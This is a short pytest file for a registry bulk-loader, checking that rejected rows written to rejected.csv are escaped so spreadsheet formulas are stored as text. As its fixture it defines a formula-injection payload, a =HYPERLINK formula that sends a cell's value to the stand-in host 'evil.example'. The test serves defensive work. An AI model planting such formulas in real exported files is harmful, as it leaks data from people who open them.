"""Issue 13 item 7: rejected.csv writes what came from the file (keys) as text, not formulas."""

import csv

from renkou.registry.loading.report import BulkLoadReport, Rejection

HYPERLINK = '=HYPERLINK("http://evil.example/?"&D2,"点此")'


def test_rejected_csv_quotes_formula_like_cells(tmp_path):
    report = BulkLoadReport(path=str(tmp_path))
    report.rejected.append(Rejection("persons.csv", 2, HYPERLINK, "name", "x", "错", "bad"))
    report.write_rejected(tmp_path / "rejected.csv")
    with open(tmp_path / "rejected.csv", encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[1][:3] == ["persons.csv", "2", "'" + HYPERLINK]
